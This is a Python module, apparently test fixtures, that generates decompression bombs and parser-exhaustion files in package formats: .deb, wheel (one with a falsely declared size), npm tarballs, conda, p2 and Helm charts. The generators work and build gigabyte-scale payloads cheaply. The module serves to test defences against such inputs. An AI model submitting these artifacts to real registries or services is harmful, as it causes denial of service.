"""Hostile artifacts, small on disk and huge once unpacked, built in a second or two.

Each is a real artifact of its format, readable by its format's own tools up to the point
where it stops being plausible: a ``.deb`` whose control file is 1 GiB, a wheel whose
METADATA is 1 GiB of spaces, and so on. The repeated part is compressed once and its
compressed bytes repeated, which every one of these codecs allows (concatenated gzip
members, zstd frames, deflate blocks after a full flush), so building one costs little.
"""

from __future__ import annotations

import gzip
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterable, Iterator
from pathlib import Path

import zstandard

__all__ = [
    "MiB",
    "conda_index_bomb",
    "deb_control_bomb",
    "helm_yaml_bomb",
    "lying_zip_member",
    "npm_json_bomb",
    "npm_many_entries",
    "npm_pax_bomb",
    "p2_content_bomb",
    "raw_deflate",
    "tar_header",
    "wheel_metadata_bomb",
    "write_zip",
    "zip_bytes",
]

MiB = 1024 * 1024
GiB = 1024 * MiB
_CHUNK = b" " * MiB


def tar_header(name: str, size: int, kind: bytes = b"0", link: str = "") -> bytes:
    """One ustar header block, as any tar writes it."""
    info = tarfile.TarInfo(name)
    info.size, info.type, info.linkname, info.mtime = size, kind, link, 0
    return info.tobuf(format=tarfile.USTAR_FORMAT)


def _padding(size: int) -> bytes:
    return b"\0" * (-size % 512)


def _tar_file(name: str, data: bytes) -> bytes:
    return tar_header(name, len(data)) + data + _padding(len(data))


def raw_deflate(head: bytes, repeats: int, tail: bytes, chunk: bytes = _CHUNK) -> bytes:
    """A raw deflate stream of ``head``, ``chunk`` times ``repeats`` and ``tail``.

    After a full flush a deflate stream refers to nothing before it, so the compressed
    form of one chunk may be repeated as often as wanted.
    """
    first = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = first.compress(head) + first.flush(zlib.Z_FULL_FLUSH)
    again = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = again.compress(chunk) + again.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    return start + piece * repeats + last.compress(tail) + last.flush()


def _crc(head: bytes, repeats: int, tail: bytes, chunk: bytes = _CHUNK) -> int:
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)
    return zlib.crc32(tail, crc)


ZipEntry = tuple[str, int, bytes, int, int]


def zip_bytes(entries: Iterable[ZipEntry]) -> bytes:
    """A zip of ``(name, method, stored bytes, crc, declared size)``, sizes as given."""
    out = bytearray()
    directory = bytearray()
    count = 0
    for name, method, data, crc, size in entries:
        encoded = name.encode()
        fields = (20, 0, method, 0, 0x21, crc, len(data), size, len(encoded), 0)
        local = struct.pack("<4s5H3I2H", b"PK\x03\x04", *fields)
        directory += struct.pack(
            "<4s6H3I5HII", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0o100644 << 16, len(out)
        )
        directory += encoded
        out += local + encoded + data
        count += 1
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(out), 0)
    return bytes(out + directory + end)


def write_zip(path: Path, entries: Iterable[ZipEntry]) -> Path:
    path.write_bytes(zip_bytes(entries))
    return path


def _stored(name: str, data: bytes) -> ZipEntry:
    return (name, zipfile.ZIP_STORED, data, zlib.crc32(data), len(data))


def _zstd(parts: Iterator[bytes]) -> bytes:
    compressor = zstandard.ZstdCompressor(level=1).compressobj()
    return b"".join(compressor.compress(part) for part in parts) + compressor.flush()


def _ar(path: Path, members: dict[str, bytes]) -> Path:
    out = bytearray(b"!<arch>\n")
    for name, data in members.items():
        header = f"{name:<16}{0:<12}{0:<6}{0:<6}{100644:<8}{len(data):<10}`\n"
        out += header.encode() + data + (b"\n" if len(data) % 2 else b"")
    path.write_bytes(bytes(out))
    return path


def deb_control_bomb(path: Path, size: int = GiB) -> Path:
    """A ``.deb`` whose ``control.tar.zst`` unpacks to a control file of ``size`` bytes."""
    head = b"Package: bomb\nVersion: 1.0\nArchitecture: all\nDescription: x\n "

    def control_tar() -> Iterator[bytes]:
        yield tar_header("./control", size) + head
        left = size - len(head)
        while left:
            step = min(left, MiB)
            yield _CHUNK[:step]
            left -= step
        yield _padding(size) + b"\0" * 1024

    data_tar = gzip.compress(b"\0" * 1024, mtime=0)
    return _ar(
        path,
        {
            "debian-binary": b"2.0\n",
            "control.tar.zst": _zstd(control_tar()),
            "data.tar.gz": data_tar,
        },
    )


def _spaced(name: str, head: bytes, size: int, tail: bytes) -> ZipEntry:
    """A deflated zip entry: ``head``, ``size`` bytes of spaces, ``tail``; honestly sized."""
    repeats = size // MiB
    unpacked = len(head) + repeats * MiB + len(tail)
    stream = raw_deflate(head, repeats, tail)
    return (name, zipfile.ZIP_DEFLATED, stream, _crc(head, repeats, tail), unpacked)


def wheel_metadata_bomb(path: Path, size: int = GiB) -> Path:
    """A wheel whose METADATA is a few headers and then ``size`` bytes of spaces."""
    head = b"Metadata-Version: 2.1\nName: bomb\nVersion: 1.0\nSummary: "
    metadata = _spaced("bomb-1.0.dist-info/METADATA", head, size, b"\n")
    wheel = b"Wheel-Version: 1.0\nGenerator: bombs\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    return write_zip(path, [_stored("bomb-1.0.dist-info/WHEEL", wheel), metadata])


def lying_zip_member(path: Path, unpacked: int = 2 * GiB) -> Path:
    """A wheel whose METADATA says it is 200 bytes and inflates to ``unpacked`` bytes."""
    head = b"Metadata-Version: 2.1\nName: liar\nVersion: 1.0\n\n"
    stream = raw_deflate(head, unpacked // MiB, b"")
    metadata = ("liar-1.0.dist-info/METADATA", zipfile.ZIP_DEFLATED, stream, zlib.crc32(head), 200)
    wheel = b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    return write_zip(path, [_stored("liar-1.0.dist-info/WHEEL", wheel), metadata])


def npm_pax_bomb(path: Path, size: int = 256 * MiB) -> Path:
    """An npm ``.tgz`` whose first member carries a pax header of ``size`` bytes."""
    prefix = b"%d comment=" % size
    filler = size - len(prefix) - 1
    manifest = b'{"name": "pax-bomb", "version": "1.0.0"}'
    start = tar_header("././@PaxHeader", size, tarfile.XHDTYPE) + prefix
    end = b"\n" + _padding(size) + _tar_file("package/package.json", manifest) + b"\0" * 1024
    whole, rest = divmod(filler, MiB)
    piece = gzip.compress(_CHUNK.replace(b" ", b"a"), mtime=0)
    parts = [gzip.compress(start, mtime=0), piece * whole]
    parts.append(gzip.compress(b"a" * rest + end, mtime=0))
    path.write_bytes(b"".join(parts))
    return path


def npm_many_entries(path: Path, count: int = 1_000_000) -> Path:
    """An npm ``.tgz`` holding ``package/package.json`` and ``count`` empty files."""
    template = bytearray(tar_header("package/f0000000", 0))
    template[148:156] = b" " * 8
    base = sum(template) - sum(b"0000000")
    middle, tail = bytes(template[16:148]), bytes(template[156:])
    with gzip.GzipFile(path, "wb", compresslevel=1, mtime=0) as out:
        out.write(_tar_file("package/package.json", b'{"name": "many", "version": "1.0.0"}'))
        batch = []
        for index in range(count):
            digits = b"%07d" % index
            checksum = b"%06o\0 " % (base + sum(digits))
            batch.append(b"package/f" + digits + middle + checksum + tail)
            if len(batch) == 10_000:
                out.write(b"".join(batch))
                batch.clear()
        out.write(b"".join(batch) + b"\0" * 1024)
    return path


def p2_content_bomb(path: Path, size: int = 2 * GiB) -> Path:
    """A zipped p2 repository whose ``content.jar`` holds ``size`` bytes of content.xml."""
    head = b"<?xml version='1.0' encoding='UTF-8'?>\n"
    tail = b"<repository name='bomb' type='x' version='1'/>\n"
    xml = _spaced("content.xml", head, size, tail)
    return write_zip(path, [_stored("content.jar", zip_bytes([xml]))])


def conda_index_bomb(path: Path, size: int = 2 * GiB) -> Path:
    """A ``.conda`` whose ``info-*.tar.zst`` holds an ``info/index.json`` of ``size`` bytes."""
    head = b'{"name": "bomb", "version": "1.0", "pad": "'

    def info_tar() -> Iterator[bytes]:
        yield tar_header("info/index.json", size) + head
        left = size - len(head) - 2
        while left:
            step = min(left, MiB)
            yield _CHUNK[:step]
            left -= step
        yield b'"}' + _padding(size) + b"\0" * 1024

    metadata = b'{"conda_pkg_format_version": 2}'
    pkg = _zstd(iter([b"\0" * 1024]))
    return write_zip(
        path,
        [
            _stored("metadata.json", metadata),
            _stored("pkg-bomb-1.0-0.tar.zst", pkg),
            _stored("info-bomb-1.0-0.tar.zst", _zstd(info_tar())),
        ],
    )


def _tgz(path: Path, members: dict[str, bytes]) -> Path:
    data = b"".join(_tar_file(name, content) for name, content in members.items())
    path.write_bytes(gzip.compress(data + b"\0" * 1024, mtime=0))
    return path


def npm_json_bomb(path: Path, size: int = 15 * MiB) -> Path:
    """An npm ``.tgz`` whose package.json is ``size`` bytes of ``[{},{},...]``: 20 times
    that in memory once parsed."""
    objects = size // 3
    manifest = b'{"name": "objects", "version": "1.0.0", "x": [' + b"{}," * objects + b"{}]}"
    return _tgz(path, {"package/package.json": manifest})


def helm_yaml_bomb(path: Path, items: int = 400_000) -> Path:
    """A helm chart whose Chart.yaml holds a flow list of ``items`` empty mappings: 1.2 MB
    that PyYAML parses for minutes into hundreds of MiB."""
    chart = b"apiVersion: v2\nname: chart\nversion: 0.1.0\nx: [" + b"{}," * items + b"{}]\n"
    return _tgz(path, {"chart/Chart.yaml": chart})
